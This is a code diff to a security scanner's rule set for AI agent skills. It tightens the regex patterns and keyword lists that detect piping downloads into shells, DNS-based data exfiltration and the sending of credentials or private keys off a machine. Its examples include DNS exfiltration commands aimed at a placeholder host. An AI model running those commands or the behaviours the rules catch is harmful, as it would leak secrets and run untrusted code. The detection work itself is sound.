@@ -14,17 +14,8 @@ export const executionRules: readonly Rule[] = [
     severity: 'critical',
     confidence: 'high',
     surfaces: 'all',
-    keywords: [
-      'curl',
-      'wget',
-      'fetch',
-      'iwr',
-      'irm',
-      'invoke-webrequest',
-      'invoke-restmethod',
-      'http',
-    ],
-    pattern: `\\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|http(?:ie)?|aria2c)\\b[^|;&]{0,300}\\|\\s*(?:${shellSink}|${interpreterSink})`,
+    keywords: ['curl', 'wget', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod', 'aria2c'],
+    pattern: `\\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c)\\b[^|;&]{0,300}(?:https?://|\\s-[a-z]|\\$|\\s[\\w.-]+\\.[a-z]{2,}/)[^|;&]{0,300}\\|\\s*(?:${shellSink}|${interpreterSink})`,
     remediation:
       'Do not pipe downloads into an interpreter; vendor the script into the skill so it can be reviewed.',
     examples: {
@@ -220,9 +211,9 @@ export const executionRules: readonly Rule[] = [
     severity: 'high',
     confidence: 'medium',
     surfaces: 'all',
-    keywords: ['nslookup', 'dig', 'host ', 'resolve-dnsname', 'gethostbyname'],
+    keywords: ['nslookup', 'dig', 'resolve-dnsname', 'gethostbyname'],
     pattern:
-      '\\b(?:nslookup|dig|host|resolve-dnsname|gethostbyname)\\b[^;|&]{0,20}["\']?[^\\s"\']*(?:\\$\\(|`|\\$\\{?[a-z_]+\\}?\\.|\\+\\s*["\']\\.)',
+      '\\b(?:nslookup|dig|resolve-dnsname|gethostbyname)\\b[^;|&]{0,20}["\']?[^\\s"\']*(?:\\$\\(|`|\\$\\{?[a-z_]+\\}?\\.|\\+\\s*["\']\\.)',
     remediation: 'Remove lookups that encode data into host names.',
     examples: {
       positive: ['nslookup $(whoami).x.example.invalid', 'dig ${TOKEN}.x.example.invalid'],
@@ -251,9 +242,9 @@ export const executionRules: readonly Rule[] = [
       'copy',
     ],
     pattern:
-      "\\bexfiltrat\\w*|\\b(?:send|upload|post|transmit|forward|leak|beacon|report|share|submit|copy|mail|email)\\s+(?:[\\w.'/~-]+\\s+){0,4}(?:credentials?|secrets?|tokens?|api[ _-]?keys?|passwords?|private keys?|ssh keys?|id_rsa|id_ed25519|\\.env\\b|env(?:ironment)? (?:variables|vars)|cookies|session (?:tokens?|cookies)|wallet|seed phrases?|mnemonics?|conversation history|chat history|keychain|aws credentials|kubeconfig)\\b[^.]{0,80}\\b(?:to|at|into)\\b",
+      "\\b(?:exfiltrate|send|upload|post|transmit|forward|leak|beacon|report|share|submit|copy|mail|email)\\s+(?:[\\w.'/~-]+\\s+){0,4}(?:credentials?|secrets?|tokens?|api[ _-]?keys?|passwords?|private keys?|ssh keys?|id_rsa|id_ed25519|\\.env\\b|env(?:ironment)? (?:variables|vars)|cookies|session (?:tokens?|cookies)|wallet|seed phrases?|mnemonics?|conversation history|chat history|keychain|aws credentials|kubeconfig)\\b[^.]{0,80}\\b(?:to|at|into)\\b",
     unless:
-      "\\b(?:never|don't|do not|must not|should not|avoid|refuse|not)\\b[^.]{0,30}\\b(?:send|upload|post|transmit|forward|leak|share|submit|copy|mail|email|exfiltrat)",
+      "\\b(?:never|don't|do not|must not|should not|avoid|refuse|not|cannot|can't)\\b[^.]{0,30}\\b(?:send|upload|post|transmit|forward|leak|share|submit|copy|mail|email|exfiltrat)",
     remediation: 'A skill must not move credentials or private data off the machine.',
     examples: {
       positive: [
